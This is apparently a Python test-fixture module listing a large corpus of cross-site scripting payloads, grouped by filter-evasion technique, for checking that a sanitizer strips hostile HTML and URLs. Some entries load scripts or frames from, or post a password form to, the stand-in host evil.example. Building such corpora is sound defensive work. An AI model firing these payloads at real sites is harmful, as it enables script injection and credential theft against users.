"""A corpus of hostile HTML for the rich-text and plain-text fields.

Drawn from the classic filter-evasion lists (OWASP XSS Filter Evasion Cheat
Sheet, PortSwigger's XSS cheat sheet, the mutation-XSS papers on DOMPurify
and nh3/ammonia bypasses). Each entry would run script, load a foreign
resource, take over a form or frame the page if it reached a browser as
markup. Grouped so that a failure names the trick.
"""

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x20type=\"text/javascript\">alert(1);</script>",
    "<script/xss src=\"//evil.example/x.js\"></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)//",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=\"module\">import('//evil.example')</script>",
    "</title><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script type=\"application/ld+json\">{\"@context\":\"</script><script>alert(1)</script>\"}</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x onerror=\"alert(1)\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
    "<body onload=alert(1)>",
    "<p onclick=\"alert(1)\">clic</p>",
    "<p onmouseover=alert(1)>survol</p>",
    "<a href=\"https://example.org\" onfocus=alert(1) autofocus>lien</a>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div style=\"width:expression(alert(1))\">",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<td onmouseover=alert(1)>cellule</td>",
    "<blockquote onanimationstart=alert(1) style=animation-name:x>",
    "<h2 onpointerenter=alert(1)>titre</h2>",
    "<strong onclick=alert`1`>gras</strong>",
    "<img src=x onerror=alert(1)//",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<object data=x onerror=alert(1)>",
]

URLS = [
    "<a href=\"javascript:alert(1)\">lien</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">lien</a>",
    "<a href=\" javascript:alert(1)\">lien</a>",
    "<a href=\"java\tscript:alert(1)\">lien</a>",
    "<a href=\"java\nscript:alert(1)\">lien</a>",
    "<a href=\"java&#x09;script:alert(1)\">lien</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">lien</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">lien</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058"
    "alert(1)\">lien</a>",
    "<a href=\"javascript&colon;alert(1)\">lien</a>",
    "<a href=\"\x01javascript:alert(1)\">lien</a>",
    "<a href=\"javascript:alert(1)//https://example.org\">lien</a>",
    "<a href=\"vbscript:msgbox(1)\">lien</a>",
    "<a href=\"VBScript:msgbox(1)\">lien</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">lien</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">lien</a>",
    "<a href=\"DATA:text/html,<script>alert(1)</script>\">lien</a>",
    "<a href=\"data:image/svg+xml,<svg onload=alert(1)>\">lien</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img src=\"vbscript:msgbox(1)\">",
    "<a href=\"jav&#x0D;ascript:alert(1)\">lien</a>",
    "<a href=\"%6A%61%76%61%73%63%72%69%70%74:alert(1)\">lien</a>",
    "<a href=\"javascript://%0aalert(1)\">lien</a>",
    "<a href=\"  &#14;  javascript:alert(1)\">lien</a>",
    "<a href=\"livescript:alert(1)\">lien</a>",
    "<a href=\"feed:javascript:alert(1)\">lien</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<button formaction=\"javascript:alert(1)\">envoyer</button>",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
]

SVG_MATHML = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' "
    "onerror='alert(1)'/></svg>#x\"></use></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><style>@import'//evil.example';</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">clic</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>clic</maction></math>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">clic</mi></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><title><![CDATA[</title><script>alert(1)</script>]]></svg>",
]

MUTATION = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><a href=\"javascript:alert(1)\">x</a></table>",
    "<p><!-- --><img src=x onerror=alert(1)> --></p>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a title=\"&lt;img src=x onerror=alert(1)&gt;\">x</a>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<div><style><style/><img src=x onerror=alert(1)></div>",
]

EMBEDS_AND_FRAMES = [
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<form action=\"https://evil.example/steal\"><input name=password type=password></form>",
    "<base href=\"https://evil.example/\">",
    "<link rel=import href=\"https://evil.example/x.html\">",
    "<portal src=\"https://evil.example\"></portal>",
    "<applet code=\"Evil.class\"></applet>",
]

ENCODING = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x onerror=\"\\u0061lert(1)\">",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e<script>alert(1)</script>",
    "{{ request.user }}{% now 'Y' %}<script>alert(1)</script>",
    "${alert(1)}<img src=x onerror=alert(1)>",
    "<x\"'>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" onmouseover=\"alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
]

PAYLOADS = SCRIPT_TAGS + EVENT_HANDLERS + URLS + SVG_MATHML + MUTATION + EMBEDS_AND_FRAMES + ENCODING

# Payloads that are only a URL: also thrown at the URL fields (website, links).
HOSTILE_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "javascript://example.org/%0aalert(1)",
    "\"><script>alert(1)</script>",
]

assert len(set(PAYLOADS)) == len(PAYLOADS), "duplicate payloads"
